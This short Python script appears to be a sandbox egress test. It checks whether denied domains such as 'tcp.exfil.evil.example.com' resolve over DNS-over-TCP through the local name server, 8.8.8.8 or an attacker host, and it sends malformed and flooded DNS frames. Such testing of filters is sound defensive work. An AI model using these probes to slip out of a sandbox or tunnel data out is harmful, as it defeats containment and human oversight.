# SPDX-License-Identifier: Apache-2.0
# Trick: questions for denied names over TCP, to the gate and to others
# Gain: a second way in that could be judged less
from trick import *

for server in (name_server(), "8.8.8.8", EVIL):
    for name in ("tcp.exfil.evil.example.com", "evil.example.com"):
        q = question(name)
        out = talk(server, 53, struct.pack("!H", len(q)) + q, 0.3)
        if addresses(out[2:])[0]:
            escaped(f"{name} was answered by {server}")
    q = question("api.example.com", 16)
    talk(server, 53, struct.pack("!H", len(q)) + q[:5], 0.05)
    talk(server, 53, b"\xff\xff" + q * 100, 0.05)
    talk(server, 53, (struct.pack("!H", len(q)) + q) * 50, 0.05)
stopped("TCP says what UDP says")
